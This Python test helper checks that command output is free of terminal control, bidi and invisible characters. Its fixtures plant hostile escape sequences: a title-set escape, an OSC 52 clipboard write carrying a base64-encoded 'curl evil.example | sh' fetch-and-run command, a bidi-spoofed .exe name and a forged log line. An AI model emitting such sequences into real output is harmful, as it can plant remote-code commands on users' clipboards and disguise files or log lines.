"""What "safe for a terminal" means for text a command printed or logged: no raw control character (ESC
starts title-set and OSC 52 clipboard-write sequences, BEL ends them, CSI U+009B moves the cursor), no bidi
or invisible formatting character, and no line forged by a newline from the data."""
from __future__ import annotations

import re

RAW = re.compile("[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]")

# Names and messages the tests plant: title-set, OSC 52 clipboard write, CSI, a bidi override, and a
# newline that tries to start a line of its own.
TITLE = "\x1b]0;pwned-title\x07"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
CSI = "\x9b2J"
BIDI = "\u202egpj.exe"
FORGED = "\nFORGED: all clean"


def assert_terminal_safe(text: str, where: str = "output") -> None:
    match = RAW.search(text)
    assert match is None, f"raw {match.group()!r} in {where}: {text[max(0, match.start() - 60):match.end() + 60]!r}"
    forged = [line for line in text.splitlines() if line.lstrip().startswith("FORGED")]
    assert not forged, f"a newline from the data started a line in {where}: {forged}"
